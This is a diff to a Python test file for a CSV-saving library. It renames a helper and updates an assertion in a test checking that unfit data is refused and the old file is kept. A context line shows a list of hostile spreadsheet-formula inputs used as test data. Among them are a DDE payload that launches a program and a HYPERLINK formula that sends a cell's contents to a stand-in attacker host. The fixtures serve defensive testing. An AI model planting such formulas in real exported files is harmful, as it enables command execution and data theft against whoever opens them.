@@ -17,7 +17,7 @@ from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
 import buildframe as bf
-from tests.store.refusals import unexpected
+from tests.refusals import wrong_refusals
 
 HOSTILE = [
     "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example.com?x="&A1,"click")', "=WEBSERVICE(A1)", "==1", "=",
@@ -172,7 +172,7 @@ REFUSED = {
 def test_what_does_not_fit_is_refused_and_the_old_file_stays(tmp_path: Path) -> None:
     before = saved(tmp_path, texts(["old"]))
     cases = [(name, words) for name, (_, words) in REFUSED.items()]
-    assert unexpected(lambda name: bf.save(tmp_path / "t.csv", REFUSED[name][0]), cases) == []
+    assert wrong_refusals(cases, lambda name: bf.save(tmp_path / "t.csv", REFUSED[name][0])) == {}
     assert [path.read_bytes().decode() for path in tmp_path.iterdir()] == [before]
 
 
